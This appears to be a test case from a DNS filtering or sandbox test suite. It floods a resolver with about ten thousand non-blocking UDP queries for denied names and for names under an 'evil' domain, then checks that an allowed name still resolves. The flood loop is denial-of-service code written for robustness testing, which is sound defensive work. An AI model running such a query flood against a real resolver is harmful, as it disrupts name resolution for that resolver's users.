"""Asks for ten thousand names at once, all denied, so that somebody's table grows or somebody's resolver chokes.

group: floods
effect: asks
allow: web.example.com, *.wild.example.com
deny: *.secret.wild.example.com
asks: web.example.com
"""
fd, server = open_socket("0.0.0.0", UDP), address(RESOLVER, 53)
for index in range(10_000 // arena.slowness):
    message = question(f"n{index}.secret.wild.example.com" if index % 2 else f"{arena.proof}{index}.evil.example.net")
    with attempt("one of many"):
        check(libc.sendto(fd, message, len(message), 0x40, server, len(server)))  # MSG_DONTWAIT
resolve("web.example.com")
